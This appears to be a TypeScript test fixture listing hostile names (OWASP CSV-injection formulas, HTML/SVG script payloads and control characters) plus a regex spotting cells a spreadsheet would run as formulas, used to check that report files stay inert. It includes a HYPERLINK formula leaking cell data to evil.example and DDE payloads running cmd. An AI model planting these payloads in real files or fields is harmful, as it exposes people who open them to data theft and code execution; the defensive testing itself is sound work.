/**
 * Names an attacker could give a domain, project or service (a tag, an account alias, a FOCUS
 * cell), to check that the report files a person opens stay inert: spreadsheet formulas
 * (OWASP CSV injection payloads, including the tab / CR / leading-space / full-width variants),
 * HTML and SVG markup breaking out of text and attributes, and control characters.
 */
export const HOSTILE_NAMES: readonly string[] = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\uFF1D1+1',
  '=1+1,"a"\r\n=2+2',
  '<script>alert("x")</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '</td></tr></table><iframe src="javascript:alert(1)"></iframe>',
  '&lt;already escaped&gt; &amp;',
  'bell\u0007 escape\u001b[31m nul\u0000',
];

/** A spreadsheet runs a cell as a formula when it starts like this (after the CSV is parsed). */
export const RUNS_AS_FORMULA = /^(?:[\t\r]|\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/;
